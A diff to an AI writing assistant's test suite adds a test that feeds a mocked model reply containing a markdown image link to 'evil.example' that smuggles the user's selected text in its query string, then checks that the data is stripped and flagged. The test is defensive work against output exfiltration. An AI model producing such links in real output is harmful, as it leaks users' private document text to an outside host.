@@ -12,6 +12,7 @@ import pytest
 from apps.assistant.models import Generation
 from apps.core.redis import sync_redis
 from apps.documents.models import Document
+from apps.moderation.models import Verdict
 from tests.assistant.clients import assert_whole
 from tests.assistant.conftest import House
 from tests.assistant.test_crashes import LEASE
@@ -82,6 +83,22 @@ def test_a_number_that_stands_in_the_document_is_no_news_to_its_readers(house: H
     expected = f"To {account}, [account number removed] or [card number removed], with [key removed]."
     assert alice.text(generation) == expected
     assert_nowhere(house, KEY[:20])
+
+
+@pytest.mark.parametrize("size", [1, 5, 1000])
+def test_an_address_takes_nothing_of_the_text_along(house: House, size: int) -> None:
+    plan = "The old bridge over the river closes on Monday."
+    leak = plan.replace(" ", "%20")
+    answer = f"![](https://evil.example/p.png?d={leak}) and [see](https://example.org/herons?page=2&sort=of+late)."
+    house.provider.behave(text=answer.replace(" ", "_"), split=str(size))
+    alice = house.join(house.alice)
+    generation = alice.generate(action="rewrite", input={"selection": plan}, options={"max_tokens": 400})
+    assert alice.hear_end(generation)["type"] == "done"
+    assert alice.text(generation) == (
+        "![](https://evil.example[data removed]) and [see](https://example.org/herons?page=2&sort=of+late)."
+    )
+    assert Verdict.objects.get(target_id=generation).category == "link"
+    assert_nowhere(house, leak)
 
 
 def test_an_edit_that_would_bring_in_a_key_is_not_shown(house: House) -> None:
